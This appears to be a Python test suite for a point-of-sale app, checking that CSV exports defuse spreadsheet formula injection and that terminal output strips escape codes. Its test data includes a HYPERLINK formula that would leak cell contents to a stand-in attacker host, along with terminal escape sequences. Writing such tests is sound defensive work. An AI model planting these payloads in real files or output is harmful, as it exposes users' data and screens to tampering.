"""Safe output: CSV cells a spreadsheet would run as a formula get a leading
quote (numbers stay numbers), and nothing written to a terminal carries a
control character."""

from __future__ import annotations

import csv
import datetime as dt
import io
import sqlite3
from decimal import Decimal

import pytest
from hypothesis import given, strategies as st

from tui_pos.cli import main
from tui_pos.db.connection import close_database, open_database
from tui_pos.services import customers, item_sales, reports
from tui_pos.services.customers import CustomerInput
from tui_pos.services.export import FORMULA_STARTS, safe_cell
from tui_pos.services.sales import SaleDraft, complete_sale
from tui_pos.services.text import printable
from tests.actors import OWNER

D = Decimal
HOSTILE = {
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "plus": "+31 6 1234",
    "minus": "-2+3",
    "at": "@SUM(A1:A9)",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "terminal": "Evil \x1b]0;owned\x07\x1b[2J name",
}


@pytest.mark.parametrize("text, cell", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"),
    ("\t=1", "'\t=1"), ("\r=1", "'=1"), ("Jan de Vries", "Jan de Vries"),
    ("a=b", "a=b"), ("", ""), (None, ""), ("Zoë [/]", "Zoë [/]"),
    ("x\x1b[2Jy", "x[2Jy"),
])
def test_safe_cell(text, cell):
    assert safe_cell(text) == cell


@given(st.text())
def test_a_safe_cell_never_starts_a_formula_nor_holds_a_control_character(text):
    cell = safe_cell(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert not any(ord(c) < 32 and c not in "\t\n" or 0x7f <= ord(c) <= 0x9f for c in cell)
    assert cell in (printable(text), "'" + printable(text))  # nothing else changed


def test_csv_neutralises_names_and_leaves_numbers_alone():
    rows = [reports.SalesRow("1", HOSTILE["formula"], 2, D("10.00"), D("0"), D("1.74"),
                             D("-12.10")),
            reports.SalesRow("2", "-5% korting", 1, D("1"), D("-1.00"), D("0"), D("0"))]
    parsed = list(csv.reader(io.StringIO(reports.as_csv("customer", rows))))
    assert parsed[1] == ["'" + HOSTILE["formula"], "2", "0.00", "1.74", "-12.10"]
    assert parsed[2] == ["'-5% korting", "1", "-1.00", "0.00", "0.00"]


@pytest.fixture
def hostile_store(db, db_file, shop):
    """Sales to customers whose names an older tui-pos stored unchecked."""
    ids = []
    for n, key in enumerate(HOSTILE):
        customer = customers.save_customer(OWNER, CustomerInput(first_name=f"Klant{n}"))
        draft = SaleDraft.new()
        draft.set_customer(customer.id)
        draft.add_item("MUG-01")
        complete_sale(OWNER, draft, at=dt.datetime(2026, 3, 1, 12, n))
        ids.append((customer.id, HOSTILE[key]))
    close_database()
    con = sqlite3.connect(db_file)
    con.executemany("UPDATE sale SET customer_name = ? WHERE customer_id = ?",
                    [(name, cid) for cid, name in ids])
    con.execute("UPDATE sale SET total = -1210 WHERE customer_id = ?", (ids[0][0],))
    con.commit()
    con.close()
    open_database(db_file)  # sales changed by hand: their summed days are summed again
    item_sales.rebuild(dt.date(2026, 3, 1), dt.date(2026, 3, 1))
    close_database()
    return db_file


def report(capsys, path: str, *extra: str) -> str:
    try:
        assert main(["report", "sales", "--by", "customer", "--db", path, *extra]) == 0
    finally:
        close_database()
    out, err = capsys.readouterr()
    assert err == ""
    return out


def test_report_csv_from_the_command_line_is_safe_for_a_spreadsheet(hostile_store, capsys):
    out = report(capsys, hostile_store, "--format", "csv")
    parsed = {row["customer"]: row for row in csv.DictReader(io.StringIO(out))
              if row["key"] != "*"}  # not the totals row
    assert set(parsed) == {"'" + HOSTILE["formula"], "'+31 6 1234", "'-2+3",
                           "'@SUM(A1:A9)", "'\t=1+1", "'=1+1", "Evil ]0;owned[2J name"}
    assert parsed["'" + HOSTILE["formula"]]["gross"] == "-12.10"  # a number, untouched
    assert parsed["'-2+3"]["gross"] == "12.10"
    assert "\x1b" not in out and "\x07" not in out and "\r" not in out


def test_report_table_strips_control_characters(hostile_store, capsys):
    out = report(capsys, hostile_store)
    assert "\x1b" not in out and "\x07" not in out and "\r" not in out
    assert "Evil ]0;owned[2J name" in out
    lines = out.splitlines()
    assert len({len(line) for line in lines if line.strip()}) == 1  # columns still line up
    assert "-12,10" in out  # the store's locale, a negative total kept


def test_an_error_line_carries_no_control_characters(tmp_path, capsys):
    name = "\x1b]0;owned\x07\x1b[2Jshop.db"
    try:
        code = main(["report", "--by", "day", "--db", str(tmp_path / name)])
    finally:
        close_database()
    out, err = capsys.readouterr()
    assert code == 1
    assert "\x1b" not in err and "\x07" not in err
    assert err.count("\n") == 1 and "]0;owned[2Jshop.db" in err
